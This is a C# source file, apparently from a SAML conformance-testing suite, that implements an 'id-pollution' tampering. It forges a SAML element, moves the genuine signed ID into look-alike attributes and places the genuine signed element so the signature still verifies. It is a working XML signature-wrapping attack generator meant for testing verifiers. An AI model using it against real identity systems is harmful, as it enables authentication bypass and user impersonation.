using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Names;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>A forged element that carries the signed ID in an attribute that is nearly ID.</summary>
internal sealed class IdPollution(TamperingArguments arguments) : Tampering
{
    private static readonly Dictionary<string, string> Namespaces = new(StringComparer.Ordinal)
    {
        ["samlp"] = SamlNamespaces.Protocol,
        ["saml"] = SamlNamespaces.Assertion,
        ["xml"] = SamlNamespaces.Xml,
        ["wsu"] = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd",
    };

    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "id-pollution",
            "Wraps the signed element; the forged one has a fresh ID and the signed ID in another attribute.",
            "The IdP's signature verifies over the untouched genuine element; the forged values are not covered.",
            [
                new("attribute", "The attribute that carries the signed ID.",
                    ["Id", "id", "xml:id", "samlp:ID", "saml:ID", "AssertionID", "wsu:Id"]),
                new("signature-at", "Where the genuine Signature stands.", ["original", "forged"]),
                new("genuine-at", "Where the genuine element stands.",
                    ["response-extensions", "forged-advice", "sibling-before", "sibling-after"]),
                new("position", "The attribute before or behind the forged ID.", ["before", "after"]),
                Impersonation.Parameter,
            ]),
        arguments => new IdPollution(arguments));

    public override string Name => "id-pollution";

    public override void AfterSigning(Workpiece work)
    {
        var target = Impersonation.Target(arguments, work.Context);
        var wrapping = new Wrapping(work, "default", target, outOfOrder: false);
        wrapping.SetForgedId("new");
        Pollute(wrapping.Forged, wrapping.GenuineId);
        wrapping.Arrange(arguments.Required("signature-at"), arguments.Required("genuine-at"));
        wrapping.ClaimPotency(target);
    }

    private void Pollute(XmlElement forged, string id)
    {
        var (prefix, name) = Edits.KnownPrefixes.Split(arguments.Required("attribute"));
        var ns = prefix.Length == 0 ? "" : Namespaces[prefix];
        if (prefix.Length > 0)
        {
            Dom.Declare(forged, prefix, ns);
        }

        var attribute = forged.OwnerDocument.CreateAttribute(prefix, name, ns);
        attribute.Value = id;
        var own = forged.GetAttributeNode("ID");
        if (arguments.Text("position") == "before")
        {
            forged.Attributes.InsertBefore(attribute, own);
        }
        else
        {
            forged.Attributes.InsertAfter(attribute, own);
        }
    }
}
